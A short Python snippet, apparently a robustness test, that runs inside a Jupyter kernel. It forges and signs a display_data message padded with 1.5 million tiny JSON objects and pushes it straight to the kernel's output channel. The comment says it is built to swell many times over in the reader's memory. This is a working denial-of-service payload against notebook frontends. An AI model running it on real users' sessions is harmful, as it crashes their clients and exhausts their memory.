# ends: ok | small as text, thirty times as large for whoever reads it
import json

kernel = get_ipython().kernel
session = kernel.session
header = json.dumps(session.msg_header("display_data"), default=str).encode()
parent = json.dumps(kernel.get_parent()["header"], default=str).encode()
frames = [header, parent, b"{}", b'{"data": [' + b'{"": 0},' * 1_500_000 + b"0]}"]
kernel.iopub_socket.send_multipart([b"x", b"<IDS|MSG>", session.sign(frames), *frames])
